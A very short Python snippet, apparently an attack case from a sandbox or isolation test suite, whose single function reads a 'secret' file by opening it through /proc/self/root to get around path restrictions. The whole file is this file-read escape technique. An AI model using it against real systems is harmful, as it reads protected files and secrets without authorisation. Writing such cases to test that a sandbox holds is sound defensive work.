"""Read a file outside through the root that /proc shows."""


def attack(ctx, at):
    with open("/proc/self/root" + at["secret"]) as file:
        return file.read()
